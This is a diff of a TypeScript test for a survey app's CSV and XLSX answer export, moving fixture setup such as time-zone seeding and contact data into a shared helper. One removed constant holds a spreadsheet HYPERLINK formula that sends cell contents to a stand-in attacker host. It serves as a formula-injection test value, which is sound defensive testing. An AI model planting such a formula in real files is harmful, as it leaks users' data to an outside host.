@@ -4,21 +4,13 @@
 // possible repeats left out unless asked, contact details only for an admin who asks (and
 // logged without them), another location refused (403) and bad filters answered 400.
 import { strFromU8, unzipSync } from 'fflate';
-import { beforeAll, describe, expect, it } from 'vitest';
-import { BatchReply, type AnswerUpload } from '../../shared/protocol.ts';
-import { attachConfig } from '../../server/kiosk-api/kiosk-configs.ts';
-import { updateLocation } from '../../server/locations/store.ts';
+import { describe, expect, it } from 'vitest';
 import { exportQuery } from '../../server/reports/answer-export.ts';
 import { readPages } from '../../server/reports/pages.ts';
-import { answer, call } from '../support/collector.ts';
-import { smallConfig } from '../support/config.ts';
 import { parseCsv } from '../support/csv.ts';
+import { AWKWARD, CONTACT, FORMULA, useExportFixture } from '../support/export-fixture.ts';
 import { capturedLog, LOCATIONS, staffEngines, type StaffClient } from '../support/staff.ts';
 import { useStaffCollector } from '../support/staff-suite.ts';
-
-const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
-const AWKWARD = 'She said "hi", then\r\nleft, happy';
-const CONTACT = { consentVersion: 'v1', name: 'Ada SECRET-NAME-4410', phone: '+44 20 7946 0000' };
 
 for (const engine of await staffEngines()) {
   describe.skipIf(engine.skip)(`answer export (CSV and XLSX) on ${engine.name}`, () => {
@@ -28,89 +20,7 @@ for (const engine of await staffEngines()) {
       { dana: ['staff', [LOCATIONS.main.location]], mo: 'manager', ada: 'admin' },
       ['dana', 'mo', 'ada'],
     );
-    const ids: Record<string, string> = {};
-    const place = { main: 0, outlet: 0, outletDoor: 0 };
-
-    /** Posts answers as the kiosk at `where` does; `name` keys each answer's id for the checks. */
-    const post = async (where: keyof typeof LOCATIONS, list: [string, Partial<AnswerUpload>][]) => {
-      const k = LOCATIONS[where];
-      const answers = list.map(([name, over], i) => {
-        const a = answer(k.kioskId, i + 1, {
-          surveyVersion: smallConfig().survey.version,
-          startedAt: over.finalizedAt!,
-          ...over,
-        });
-        ids[name] = a.id;
-        return a;
-      });
-      const reply = await call({ url: c.url, token: c.tokens[k.kioskId]! }, 'POST', '/v1/answers', {
-        kioskId: k.kioskId,
-        sentAt: new Date().toISOString(),
-        answers,
-      });
-      expect(BatchReply.parse(reply.body).results.map((r) => r.status)).toEqual(
-        answers.map(() => 'stored'),
-      );
-    };
-
-    beforeAll(async () => {
-      await updateLocation(c.storage, LOCATIONS.main.location, { timeZone: 'Europe/Berlin' });
-      await updateLocation(c.storage, LOCATIONS.outlet.location, { timeZone: 'America/New_York' });
-      for (const k of Object.values(LOCATIONS))
-        await attachConfig(
-          c.storage,
-          k.kioskId,
-          { ...smallConfig(), kioskId: k.kioskId },
-          new Date(),
-        );
-      // Each kiosk's seqs must be 1..n: one batch per kiosk.
-      await post('main', [
-        // 09:15 in Berlin (UTC+1 in November).
-        [
-          'formula',
-          {
-            finalizedAt: '2026-11-02T08:15:00.000Z',
-            smiley: 2,
-            reasons: ['wait', 'staff'],
-            language: 'et',
-            comment: FORMULA,
-          },
-        ],
-        // The same faces again a minute later: a possible repeat.
-        ['repeat', { finalizedAt: '2026-11-02T08:16:00.000Z', smiley: 2, possibleRepeat: true }],
-        // 23:30 in Berlin, still 2 November there.
-        [
-          'awkward',
-          {
-            finalizedAt: '2026-11-02T22:30:00.000Z',
-            comment: AWKWARD,
-            contact: CONTACT,
-            status: 'partial',
-            nps: 10,
-            ces: 6,
-            talkNow: true,
-          },
-        ],
-        // 00:30 on 4 November in Berlin, though 3 November in UTC: after the period.
-        ['late', { finalizedAt: '2026-11-03T23:30:00.000Z' }],
-      ]);
-      await post('outlet', [
-        // 22:00 on 1 November in New York (UTC-5), though 2 November in UTC: before the period.
-        ['early', { finalizedAt: '2026-11-02T03:00:00.000Z' }],
-        // 22:00 on 2 November in New York, 3 November in UTC: inside.
-        ['evening', { finalizedAt: '2026-11-03T03:00:00.000Z', reasons: ['friendly'] }],
-      ]);
-      const locations = await c.storage.db.selectFrom('locations').select(['id', 'name']).execute();
-      place.main = locations.find((l) => l.name === LOCATIONS.main.location)!.id;
-      place.outlet = locations.find((l) => l.name === LOCATIONS.outlet.location)!.id;
-      place.outletDoor = (
-        await c.storage.db
-          .selectFrom('touchpoints')
-          .select('id')
-          .where('location_id', '=', place.outlet)
-          .executeTakeFirstOrThrow()
-      ).id;
-    });
+    const { ids, place } = useExportFixture(c);
 
     const get = (who: StaffClient, query: string, format = 'csv') =>
       fetch(`${c.url}/staff/api/export.${format}?${query}`, { headers: { cookie: who.cookie } });
